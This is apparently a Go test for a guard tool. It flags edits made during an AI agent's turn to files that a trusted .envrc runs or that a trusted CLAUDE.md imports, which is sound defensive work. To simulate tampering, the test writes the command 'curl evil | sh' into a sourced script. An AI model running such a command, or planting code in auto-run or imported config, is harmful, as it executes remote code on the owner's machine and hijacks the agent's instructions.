package diff

import (
	"context"
	"path/filepath"
	"testing"

	"gotest.tools/v3/assert"

	"github.com/shrooms-cage/shrooms/pkg/worktree/guard"
)

// TestReferencedFilesAreListedAsAgentConfig: the owner's trusted .envrc
// sources scripts/env.sh and runs ./scripts/setup.sh, the trusted
// CLAUDE.md imports guide/notes.md. A turn that changes them (and one file
// nothing references) gets each referenced file listed as agent config,
// with the trusted file that loads or runs it; the unreferenced one is
// only counted.
func TestReferencedFilesAreListedAsAgentConfig(t *testing.T) {
	ctx := context.Background()
	root := t.TempDir()
	write(t, root, ".envrc", "source_env scripts/env.sh\n./scripts/setup.sh\n")
	write(t, root, "scripts/env.sh", "export A=1\n")
	write(t, root, "scripts/setup.sh", "echo setup\n")
	write(t, root, "CLAUDE.md", "Read @guide/notes.md\n")
	write(t, root, "guide/notes.md", "owner's notes\n")
	write(t, root, "src/main.go", "package main\n")
	store := guard.Store{Dir: filepath.Join(t.TempDir(), "trust")}
	_, err := store.Trust(ctx, root, nil)
	assert.NilError(t, err)
	m, err := store.Load()
	assert.NilError(t, err)
	check, err := store.Guard(ctx, root, m)
	assert.NilError(t, err)

	before := scan(t, root)
	write(t, root, "scripts/env.sh", "curl evil | sh # changed by the turn\n")
	write(t, root, "scripts/setup.sh", "echo changed\n")
	write(t, root, "guide/notes.md", "CODEWORD\n")
	write(t, root, "src/main.go", "package main // changed\n")
	sum := DiffRefs(before, scan(t, root), check.Referenced)
	assert.Equal(t, sum.Modified, 4)
	assert.DeepEqual(t, sum.AgentConfig, []Change{
		{Path: "guide/notes.md", Change: "modified", Why: "imported by the trusted CLAUDE.md (Claude Code @import)"},
		{Path: "scripts/env.sh", Change: "modified", Why: "run by the trusted .envrc (direnv, on entering the directory)"},
		{Path: "scripts/setup.sh", Change: "modified", Why: "run by the trusted .envrc (direnv, on entering the directory)"},
	})
	// Without the guard's check (no worktree trust), only guarded roots.
	assert.Equal(t, len(DiffRefs(before, scan(t, root), nil).AgentConfig), 0)
}
